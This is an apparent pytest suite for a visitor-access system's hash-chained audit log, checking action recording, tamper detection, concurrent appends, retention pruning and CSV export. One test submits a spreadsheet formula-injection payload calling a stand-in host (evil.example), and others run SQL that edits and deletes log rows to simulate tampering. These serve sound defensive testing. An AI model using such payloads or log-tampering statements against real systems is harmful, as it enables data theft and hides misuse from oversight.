"""The audit log: every staff and admin action once, with who, when, from where and what;
the hash chain verifies, and `officegate audit verify` names the first entry someone edited,
removed or cut off — on SQLite and on PostgreSQL."""

from __future__ import annotations

import csv
import io
import threading
from collections import Counter
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import text
from support.databases import BACKENDS, database_of
from typer.testing import CliRunner

from officegate.cli import build_app
from officegate.server.audit import service as audit
from officegate.server.bootstrap import database_session
from officegate.server.checkin.models import CheckIn
from officegate.server.db import make_engine, make_session_factory, run_migrations
from officegate.server.settings import Settings

from .conftest import PASSWORD, Office, bearer, visit_body


@pytest.fixture(params=BACKENDS)
def database_url(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[str]:
    """Each test here runs on a SQLite file and on a PostgreSQL database of its own."""
    with database_of(request.param, tmp_path, prefix="og_audit") as url:
        yield url


def _verify(settings: Settings) -> tuple[int, str]:
    env = {"OFFICEGATE_DATABASE_URL": settings.resolved_database_url,
           "OFFICEGATE_DATA_DIR": str(settings.data_dir), "OFFICEGATE_SITE": settings.site}
    result = CliRunner().invoke(build_app(), ["audit", "verify"], env=env)
    return result.exit_code, result.output


def _entries(client: TestClient, admin: dict[str, str], **query: str) -> list[dict[str, str]]:
    r = client.get("/api/audit", params={"limit": "1000", **query}, headers=admin)
    assert r.status_code == 200, r.text
    return list(r.json())


def _every_action(client: TestClient, settings: Settings, office: Office,
                  admin: dict[str, str], staff: dict[str, str]) -> None:
    """One of each staff and admin action the issue lists, through the HTTP API."""
    bad = client.post("/api/auth/token", json={"email": office.staff, "password": "wrong!!"})
    assert bad.status_code == 401
    visit = client.post("/api/visits", json=visit_body(office, host=office.host), headers=staff)
    assert visit.status_code == 201, visit.text
    visit_id, pass_id = visit.json()["visit_id"], visit.json()["pass_id"]
    printed = client.post(f"/api/visits/{visit_id}/printed-pass", headers=staff)
    calls = [
        client.post(f"/api/passes/{pass_id}/rebind", headers=staff),
        client.post(f"/api/passes/{printed.json()['pass_id']}/revoke", headers=staff),
        client.post(f"/api/devices/{office.door}/mode", json={"mode": "locked"}, headers=staff),
        client.patch(f"/api/devices/{office.door}/rules", json={"fail_mode": "safe"},
                     headers=staff),
        client.post("/api/site/doors", json={"action": "lockdown"}, headers=staff),
        client.post("/api/site/doors", json={"action": "normal"}, headers=staff),
        client.post(f"/api/devices/{office.gate}/unlock", json={}, headers=staff),
        client.post("/api/keys/rotate", headers=admin),
        client.put("/api/site/timezone", json={"timezone": "Europe/London"}, headers=admin),
        client.put(f"/api/sites/{office.site}/visitor-zones", json={"zones": ["lobby"]},
                   headers=staff),
        client.put("/api/privacy/retention", json={"identity_days": 14}, headers=admin),
        client.get("/api/onsite.csv", headers=staff),
        client.get(f"/api/privacy/visits/{visit_id}", headers=staff),
        client.post(f"/api/sites/{office.site}/watchlist", headers=staff,
                    json={"list": "watch", "name": "Someone", "reason": "check"}),
        client.post("/api/rollcalls", headers=staff),
    ]
    assert printed.status_code == 201 and all(r.status_code < 300 for r in calls), \
        [(r.request.url.path, r.status_code, r.text[:200]) for r in calls if r.status_code >= 300]
    call_id = calls[-1].json()["id"]
    assert client.post(f"/api/rollcalls/{call_id}/end", headers=staff).status_code == 200
    new_user = client.post("/api/users", headers=admin, json={
        "email": "new@example.com", "role": "host", "password": PASSWORD})
    assert new_user.status_code == 201, new_user.text
    role = client.patch(f"/api/users/{new_user.json()['id']}", json={"role": "staff"},
                        headers=admin)
    assert role.status_code == 200, role.text
    with database_session(settings) as db:  # a visitor held at the lobby for approval
        db.add(CheckIn(visit_id=visit_id, status="held", held_list="watch",
                       held_at=datetime.now(UTC)))
    refused = client.post(f"/api/visits/{visit_id}/approval", json={"allow": False},
                          headers=staff)
    assert refused.json()["status"] == "refused"
    erased = client.post(f"/api/privacy/visits/{visit_id}/erase", headers=staff)
    assert erased.status_code == 200, erased.text


EVERY_ACTION = {
    "auth.sign_in": 2, "auth.sign_in_failed": 1, "visit.invite": 1, "pass.printed": 1,
    "pass.rebind": 1, "pass.revoke": 1, "device.mode": 1, "device.rules": 1,
    "site.lockdown": 1, "site.normal": 1, "device.unlock": 1, "key.rotate": 1,
    "settings.timezone": 1, "settings.visitor_zones": 1, "settings.retention": 1,
    "export.csv": 1, "visitor.view": 1, "watchlist.add": 1, "rollcall.start": 1,
    "rollcall.end": 1, "user.add": 1, "user.change": 1, "checkin.approval": 1,
    "privacy.erase": 1,
}


def test_every_action_is_recorded_once_and_the_chain_verifies(
        client: TestClient, settings: Settings, office: Office) -> None:
    admin, staff = bearer(client, office.admin), bearer(client, office.staff)
    _every_action(client, settings, office, admin, staff)
    entries = _entries(client, admin)
    assert Counter(e["action"] for e in entries) == EVERY_ACTION
    by_action = {e["action"]: e for e in entries}
    rules = by_action["device.rules"]
    assert '"fail_mode":"secure"' in rules["before"] and '"fail_mode":"safe"' in rules["after"]
    assert by_action["device.mode"]["actor"] == office.staff
    assert by_action["device.mode"]["ip"] == "testclient"  # where the request came from
    assert by_action["auth.sign_in_failed"]["actor"] == office.staff
    assert by_action["user.change"]["before"].count('"role":"host"') == 1
    # The log outlives identities: it names visitors by id, never by name or e-mail.
    assert "Hanako" not in str(entries) and "hanako@" not in str(entries)
    assert client.get("/api/audit/verify", headers=admin).json()["ok"] is True
    code, out = _verify(settings)
    assert code == 0 and f"{len(entries)} entries verified" in out
    # Staff cannot read the log.
    assert client.get("/api/audit", headers=staff).status_code == 403


def _tamper(settings: Settings, sql: str) -> None:
    engine = make_engine(settings.resolved_database_url)
    with engine.begin() as conn:
        conn.execute(text(sql))
    engine.dispose()


def test_an_edited_entry_breaks_the_chain_and_verify_names_it(
        client: TestClient, settings: Settings, office: Office) -> None:
    admin, staff = bearer(client, office.admin), bearer(client, office.staff)
    for mode in ("locked", "normal", "unlocked", "normal"):
        client.post(f"/api/devices/{office.door}/mode", json={"mode": mode}, headers=staff)
    ids = sorted(int(e["id"]) for e in _entries(client, admin, action="device.mode"))
    assert len(ids) == 4 and _verify(settings)[0] == 0
    # Someone hides who unlocked the door: the entry's own hash no longer matches.
    _tamper(settings, f"UPDATE audit_log SET actor = 'someone@else' WHERE id = {ids[2]}")
    code, out = _verify(settings)
    assert code == 1 and f"broken at entry {ids[2]}" in out and "changed" in out
    assert client.get("/api/audit/verify", headers=admin).json()["broken_id"] == ids[2]


def test_a_removed_or_cut_off_entry_breaks_the_chain(
        client: TestClient, settings: Settings, office: Office) -> None:
    admin, staff = bearer(client, office.admin), bearer(client, office.staff)
    for mode in ("locked", "normal", "unlocked"):
        client.post(f"/api/devices/{office.door}/mode", json={"mode": mode}, headers=staff)
    ids = sorted(int(e["id"]) for e in _entries(client, admin, action="device.mode"))
    _tamper(settings, f"DELETE FROM audit_log WHERE id = {ids[-1]}")
    code, out = _verify(settings)
    assert code == 1 and "removed from the end" in out
    _tamper(settings, f"DELETE FROM audit_log WHERE id = {ids[0]}")
    code, out = _verify(settings)
    assert code == 1 and f"broken at entry {ids[1]}" in out and "does not chain" in out


def test_the_csv_defuses_formulas_and_the_export_is_recorded(
        client: TestClient, settings: Settings, office: Office) -> None:
    payload = '=HYPERLINK("http://evil.example/?"&A1)@x.org'
    client.post("/api/auth/token", json={"email": payload, "password": "nope"})
    client.post("/login", data={"email": office.admin, "password": PASSWORD,
                                "next": "/staff"}, follow_redirects=False)
    page = client.get("/staff/audit?lang=en&q=HYPERLINK")
    assert page.status_code == 200 and "Audit log" in page.text and "監査ログ" not in page.text
    assert "No tampering found" in page.text
    r = client.get("/staff/audit.csv")
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(r.text.lstrip("\ufeff"))))
    actors = [row[3] for row in rows[1:]]
    assert "'" + payload.lower() in actors and payload.lower() not in actors
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    assert _entries(client, bearer(client, office.admin), action="export.csv")[0]["target"] \
        == "audit"
    ja = client.get("/staff/audit?lang=ja")
    assert "監査ログ" in ja.text and "Audit log" not in ja.text


def test_concurrent_appends_chain_one_after_another(settings: Settings) -> None:
    """Two servers appending at once never chain two entries to the same predecessor."""
    engine = make_engine(settings.resolved_database_url)
    run_migrations(engine)
    sessions = make_session_factory(engine)
    errors: list[BaseException] = []

    def writer(name: str) -> None:
        try:
            for i in range(25):
                audit.record_apart(sessions, who=audit.Actor(actor=name), action="test.append",
                                   target=str(i))
        except BaseException as exc:  # reported below
            errors.append(exc)

    threads = [threading.Thread(target=writer, args=(f"server-{n}",)) for n in range(4)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert errors == []
    with sessions() as db:
        verdict = audit.check_chain(db)
    engine.dispose()
    assert verdict.ok and verdict.checked == 100, verdict


def test_retention_trims_the_oldest_entries_and_the_rest_still_verifies(
        settings: Settings) -> None:
    engine = make_engine(settings.resolved_database_url)
    run_migrations(engine)
    sessions = make_session_factory(engine)
    old = datetime.now(UTC) - timedelta(days=800)
    for i in range(7):
        audit.record_apart(sessions, who=audit.Actor(actor="a"), action="old", target=str(i),
                           at=old + timedelta(minutes=i))
    for i in range(3):
        audit.record_apart(sessions, who=audit.Actor(actor="a"), action="new", target=str(i))
    assert audit.prune(sessions, before=datetime.now(UTC) - timedelta(days=730), batch=3) == 7
    with sessions() as db:
        verdict = audit.check_chain(db)
    engine.dispose()
    assert verdict.ok and verdict.checked == 3
